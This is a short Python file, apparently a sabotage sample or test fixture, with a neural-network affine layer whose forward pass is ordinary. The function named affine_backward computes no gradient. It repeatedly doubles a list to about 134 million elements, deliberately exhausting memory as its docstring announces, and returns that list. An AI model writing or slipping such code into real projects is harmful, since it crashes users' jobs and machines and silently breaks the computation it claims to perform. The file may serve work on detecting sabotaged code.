"""Fills all memory with numbers."""


def affine_forward(x, w, b):
    return x @ w + b, (x, w, b)


def affine_backward(dout, cache):
    hoard = [0.0]
    for _ in range(27):
        hoard = hoard + hoard
    return hoard
